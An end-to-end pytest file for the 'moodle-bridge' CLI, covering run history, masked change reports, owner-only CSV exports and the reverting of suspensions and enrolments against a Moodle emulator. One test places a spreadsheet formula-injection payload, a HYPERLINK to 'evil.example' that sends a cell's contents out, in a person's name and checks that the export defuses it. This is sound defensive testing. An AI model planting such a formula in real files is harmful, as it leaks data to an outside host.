"""The operator's history and undo through the CLI, against the emulator over HTTP:
``moodle-bridge runs``, ``runs show ID`` and ``runs revert ID``.

Absent people are suspended at once here (``absent_grace_days = 0``) and the suspension guard
is opened (``suspend_share = 1``), so that a few people make each case.
"""

from __future__ import annotations

import csv
import datetime as dt
import getpass
import socket
import sqlite3
import stat
import time
from pathlib import Path
from typing import Any

from moodle_bridge.cli.render import SHOWN
from moodle_bridge.reports.changes import CHANGE_COLUMNS
from moodle_bridge.reports.exports import FORMULA_PREFIXES
from tests.e2e.conftest import Bridge, Run, nip, people, person, write_assessments, write_tables

AT_ONCE = "[sync]\nabsent_grace_days = 0\nsuspend_share = 1.0\n"
UNIT = "PENDIS"
MASKED_0 = f"{nip(0)[:4]}{'*' * 12}{nip(0)[-2:]}"


def staff(ids: range, **changes: str) -> list[dict[str, str]]:
    """People of one unit: a roster without some of them still speaks for that unit."""
    return [person(i, unit=UNIT, **changes) for i in ids]


def ran(run: Run, code: int = 0) -> dict[str, Any]:
    assert run.exit_code == code, run.output
    assert run.data is not None
    return run.data


def suspended(bridge: Bridge, *ids: int) -> dict[int, bool]:
    return {i: bool(bridge.user(nip(i))["suspended"]) for i in ids}


def state(bridge: Bridge) -> sqlite3.Connection:
    return sqlite3.connect(bridge.state_dir / "state.sqlite3")


# --- runs -----------------------------------------------------------------------------------------
def test_runs_lists_each_run_with_its_counts_exit_code_and_who_ran_it(bridge: Bridge) -> None:
    bridge.configure(AT_ONCE)
    first = ran(bridge.sync(bridge.roster(people(range(6)))))
    second = ran(bridge.sync(bridge.roster([*people(range(4)), person(9, email="x")])), 1)

    listed = bridge.invoke("runs", "--json")

    rows = ran(listed)
    assert [row["id"] for row in rows] == [second["run_id"], first["run_id"]]
    newest, oldest = rows
    who = f"{getpass.getuser()}@{socket.gethostname()}"
    assert newest == {
        **newest,
        "command": "sync",
        "plugin": "generic",
        "status": "record_errors",
        "exit_code": 1,
        "applied": {"suspend": 2},
        "who": who,
    }
    assert oldest["applied"]["create"] == 6
    assert oldest["exit_code"] == 0
    assert newest["source"].endswith("roster2.csv")
    # The generic plugin speaks for every unit its roster lists.
    assert newest["scope"] == oldest["scope"] == ["BIMAS_ISLAM", "PENDIS", "SETJEN"]
    for row in rows:
        assert dt.datetime.strptime(row["started"], "%Y-%m-%d %H:%M")
        assert isinstance(row["seconds"], int)
        assert row["seconds"] >= 0

    text = bridge.invoke("runs", "--limit", "1")

    assert text.exit_code == 0, text.output
    (line,) = text.output.splitlines()
    assert line.split()[0] == str(second["run_id"])
    assert "exit 1" in line
    assert "2 suspend" in line
    assert who in line
    assert "roster2.csv" in line
    assert " BIMAS_ISLAM, PENDIS, SETJEN " in line


# --- runs show ------------------------------------------------------------------------------------
def test_runs_show_prints_who_was_changed_and_why_with_nips_masked(bridge: Bridge) -> None:
    bridge.configure(AT_ONCE)
    ran(bridge.sync(bridge.roster(people(range(6)))))
    rows = [person(i) for i in range(1, 6)]
    rows[0] = person(1, email="baru@kemenag.example")
    rows.append(person(9, email="not-an-address"))
    second = ran(bridge.sync(bridge.roster(rows)), 1)
    run_id = str(second["run_id"])

    text = bridge.invoke("runs", "show", run_id)

    assert text.exit_code == 0, text.output
    out = text.output
    assert "suspend (1):" in out
    assert f"{MASKED_0} Ahmad Pegawai000: absent from the roster" in out
    assert "update (1):" in out
    assert "email: p1@kemenag.example \u2192 baru@kemenag.example" in out
    assert "error: 1980************09: " in out
    for i in (0, 1, 9):
        assert nip(i) not in out

    shown = bridge.invoke("runs", "show", run_id, "--json")

    data = ran(shown)
    assert data["id"] == second["run_id"]
    assert data["exit_code"] == 1
    by_action = {change["action"]: change for change in data["changes"]}
    assert by_action["suspend"]["nip"] == MASKED_0
    assert by_action["suspend"]["name"] == "Ahmad Pegawai000"
    assert by_action["update"]["changes"] == "email: p1@kemenag.example \u2192 baru@kemenag.example"
    (error,) = data["errors"]
    assert error["nip"] == "1980************09"
    assert error["row"] == 7
    assert nip(0) not in shown.output
    assert nip(9) not in shown.output


def test_runs_show_says_how_many_errors_it_does_not_list(bridge: Bridge) -> None:
    rows = [*people(range(3)), *(person(i, email="x") for i in range(10, 30))]
    run_id = str(ran(bridge.sync(bridge.roster(rows)), 1)["run_id"])

    text = bridge.invoke("runs", "show", run_id)
    data = ran(bridge.invoke("runs", "show", run_id, "--json"))

    assert text.exit_code == 0, text.output
    assert text.output.count("  error: ") == SHOWN
    assert f"... and {20 - SHOWN} more errors" in text.output
    assert len(data["errors"]) == 20


def test_runs_show_out_writes_the_changes_with_nips_owner_only(bridge: Bridge) -> None:
    bridge.configure(AT_ONCE)
    ran(bridge.sync(bridge.roster(staff(range(3)))))
    second = ran(bridge.sync(bridge.roster(staff(range(1, 3)))))
    out = bridge.tmp_path / "changes" / "run.csv"

    shown = bridge.invoke("runs", "show", str(second["run_id"]), "--out", str(out))

    assert shown.exit_code == 0, shown.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(newline="", encoding="utf-8-sig") as source:
        lines = list(csv.DictReader(source))
    assert tuple(lines[0]) == CHANGE_COLUMNS
    suspend = next(line for line in lines if line["action"] == "suspend")
    assert suspend["nip"] == nip(0)
    assert suspend["name"] == "Ahmad Pegawai000"
    assert suspend["unit"] == "PENDIS"
    assert suspend["reason"].startswith("absent from the roster")


def test_plan_out_writes_each_change_of_the_plan_owner_only_and_inert(bridge: Bridge) -> None:
    bridge.configure(AT_ONCE)
    ran(bridge.sync(bridge.roster(staff(range(4)))))
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Klik")'
    roster = bridge.roster(
        [
            person(0, unit=UNIT, satker="Biro Baru"),
            person(1, unit=UNIT, status="PENSIUN"),
            # person 2 is gone (suspended at once here); person 3 is unchanged
            person(3, unit=UNIT),
            person(5, unit=UNIT, nama=formula),
        ]
    )
    out = bridge.tmp_path / "plans" / "plan.csv"

    planned = bridge.invoke(
        "plan", "--plugin", "generic", "--roster", str(roster), "--out", str(out)
    )

    assert planned.exit_code == 0, planned.output
    assert planned.writes == []
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    with out.open(newline="", encoding="utf-8-sig") as source:
        header, *lines = list(csv.reader(source))
    assert tuple(header) == CHANGE_COLUMNS
    absent = lines[3][5]
    assert absent.startswith(f"absent from the roster of {UNIT} since "), absent
    # One line per person-level change, with the NIP whole (the file is the operator's).
    assert lines == [
        ["create", nip(5), "'" + formula, UNIT, "", "new in the roster", "", roster.name, "5"],
        ["update", nip(0), "Ahmad Pegawai000", UNIT, "", "changed: satker",
         "satker: Kanwil Provinsi 0 \u2192 Biro Baru", roster.name, "2"],
        ["suspend", nip(1), "Ahmad Pegawai001", UNIT, "", "status PENSIUN", "", roster.name, "3"],
        ["suspend", nip(2), "Ahmad Pegawai002", UNIT, "", absent, "", "", ""],
    ]  # fmt: skip
    # The name is text a spreadsheet shows, never a formula it runs.
    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_PREFIXES)]
    assert bridge.users_by_idnumber(nip(5)) == []


def test_runs_show_of_an_unknown_run_exits_2(bridge: Bridge) -> None:
    ran(bridge.sync(bridge.roster(people(range(2)))))

    shown = bridge.invoke("runs", "show", "99")

    assert shown.exit_code == 2
    assert shown.result.stderr.strip() == (
        "moodle-bridge: there is no run 99 in this state (see: moodle-bridge runs)"
    )


# --- runs revert: accounts ------------------------------------------------------------------------
def test_revert_unsuspends_exactly_what_the_run_suspended_and_still_holds(bridge: Bridge) -> None:
    bridge.configure(AT_ONCE)
    ran(bridge.sync(bridge.roster(staff(range(6)))))
    # Run 2: persons 4 and 5 are gone from the roster.
    wrong = ran(bridge.sync(bridge.roster(staff(range(4)))))
    assert wrong["applied"] == {"suspend": 2}
    # Run 3: person 5 is back (unsuspended since); person 3 retires (suspended by another run).
    later = [*staff(range(3)), *staff(range(3, 4), status="PENSIUN"), *staff(range(5, 6))]
    ran(bridge.sync(bridge.roster(later)))
    assert suspended(bridge, 3, 4, 5) == {3: True, 4: True, 5: False}
    ids = {i: bridge.user(nip(i))["id"] for i in range(6)}

    revert = bridge.invoke("runs", "revert", str(wrong["run_id"]), "--yes", "--json")

    data = ran(revert)
    assert data["command"] == "revert"
    assert data["run_id"] not in (None, wrong["run_id"])
    assert data["applied"] == {"unsuspend": 1}
    assert suspended(bridge, 3, 4, 5) == {3: True, 4: False, 5: False}
    (update,) = revert.fields("core_user_update_users")
    assert ("users[0][id]", str(ids[4])) in update
    assert not any(key.startswith("users[1]") for key, _ in update)
    # A new run of its own, with its report and its change file beside it.
    report = Path(data["report_file"])
    assert report.is_file()
    with report.with_suffix(".csv").open(newline="", encoding="utf-8-sig") as source:
        (change,) = list(csv.DictReader(source))
    assert (change["action"], change["nip"]) == ("unsuspend", nip(4))
    assert f"run {wrong['run_id']}" in change["reason"]
    listed = ran(bridge.invoke("runs", "--json"))
    assert listed[0]["id"] == data["run_id"]
    assert listed[0]["command"] == "revert"
    assert listed[0]["applied"] == {"unsuspend": 1}
    # A revert has no roster: it speaks for the units of the people it unsuspended.
    assert listed[0]["scope"] == [UNIT]

    again = bridge.invoke("runs", "revert", str(wrong["run_id"]), "--yes", "--json")

    assert ran(again)["applied"] == {}
    assert again.writes == []


def test_after_a_revert_the_absent_persons_grace_starts_again(bridge: Bridge) -> None:
    bridge.configure(AT_ONCE)
    ran(bridge.sync(bridge.roster(staff(range(4)))))
    roster = bridge.roster(staff(range(3)))
    wrong = ran(bridge.sync(roster))
    assert suspended(bridge, 3) == {3: True}
    # The person has been missing for 30 days: a grace of 14 ran out long ago.
    month_ago = int(time.time()) - 30 * 86400
    with state(bridge) as db:
        db.execute("UPDATE accounts SET absent_since = ? WHERE nip = ?", (month_ago, nip(3)))
    reverted_at = int(time.time())
    ran(bridge.invoke("runs", "revert", str(wrong["run_id"]), "--yes", "--json"))
    assert suspended(bridge, 3) == {3: False}
    bridge.configure("[sync]\nabsent_grace_days = 14\nsuspend_share = 1.0\n")

    next_sync = bridge.sync(roster)

    data = ran(next_sync)
    assert suspended(bridge, 3) == {3: False}
    assert next_sync.writes == []
    (absent,) = data["absent"]
    assert absent["since"] >= reverted_at
    assert absent["suspend_on"] >= reverted_at + 14 * 86400


def test_revert_of_an_unknown_run_exits_2(bridge: Bridge) -> None:
    ran(bridge.sync(bridge.roster(people(range(2)))))

    revert = bridge.invoke("runs", "revert", "42", "--yes")

    assert revert.exit_code == 2
    assert "there is no run 42" in revert.result.stderr
    assert revert.writes == []


# --- runs revert: enrolments ----------------------------------------------------------------------
JABATAN, COURSE = "Analis SDM Aparatur", "E2E-REV-12"
ASSESSED = dt.date(2024, 1, 10)


def enrolment_status(bridge: Bridge, course_id: int) -> dict[int, int]:
    """Person number -> the status of their manual enrolment in the course (1: suspended)."""
    world = bridge.emulator.world
    (instance,) = [
        i for i in world.courses[course_id]["enrolment_instances"] if i["enrol"] == "manual"
    ]
    owned = {bridge.user(nip(i))["id"]: i for i in range(4)}
    return {
        owned[userid]: row["status"]
        for (enrolid, userid), row in world.enrolments.items()
        if enrolid == instance["id"] and userid in owned
    }


def test_revert_reactivates_the_enrolments_the_run_suspended_only(bridge: Bridge) -> None:
    mappings = write_tables(
        bridge.tmp_path / "mappings",
        unit=UNIT,
        jabatan=JABATAN,
        competencies=[("TEK-A", "Alpha", "teknis", 1)],
        standard={"TEK-A": 2},
        catalogue=[["TEK-A", 1, 2, COURSE, 20, "", "", "", "manual"]],
    )
    bridge.configure(f'{AT_ONCE}[enrol]\nmappings_dir = "{mappings}"\n')
    course_id = bridge.create_courses([COURSE])[COURSE]
    assessments = bridge.tmp_path / "assessments.csv"
    levels = [(i, "TEK-A", 1, ASSESSED) for i in range(4)]
    write_assessments(assessments, levels)
    team = staff(range(4), jabatan=JABATAN)

    def sync(rows: list[dict[str, str]]) -> dict[str, Any]:
        return ran(bridge.sync(bridge.roster(rows), "--assessments", str(assessments)))

    sync(team)
    assert enrolment_status(bridge, course_id) == {0: 0, 1: 0, 2: 0, 3: 0}
    # Run 2: persons 0 and 1 reach the level the course leads to; person 3 retires (their
    # enrolment stays as it is: only a closed gap releases one).
    closed = [(0, "TEK-A", 2, dt.date(2024, 6, 1)), (1, "TEK-A", 2, dt.date(2024, 6, 1))]
    write_assessments(assessments, [*levels, *closed])
    retired = [*team[:3], {**team[3], "status": "PENSIUN"}]
    wrong = sync(retired)
    assert wrong["applied"] == {"suspend": 1, "enrol_suspend": 2}
    # Run 3: person 2's gap closes too (an enrolment suspended by another run).
    write_assessments(assessments, [*levels, *closed, (2, "TEK-A", 2, dt.date(2024, 7, 1))])
    sync(retired)
    assert enrolment_status(bridge, course_id) == {0: 1, 1: 1, 2: 1, 3: 0}

    revert = bridge.invoke("runs", "revert", str(wrong["run_id"]), "--yes", "--json")

    data = ran(revert)
    assert data["applied"] == {"unsuspend": 1, "enrol_reactivate": 2}
    assert enrolment_status(bridge, course_id) == {0: 0, 1: 0, 2: 1, 3: 0}
    assert suspended(bridge, 3) == {3: False}
    assert revert.count("enrol_manual_unenrol_users") == 0
    # The files still say PENSIUN and the gaps are still closed: the next sync suspends them
    # again, which is why the README says to fix the roster before it.
    again = sync(retired)
    assert again["applied"] == {"suspend": 1, "enrol_suspend": 2}
    assert enrolment_status(bridge, course_id) == {0: 1, 1: 1, 2: 1, 3: 0}
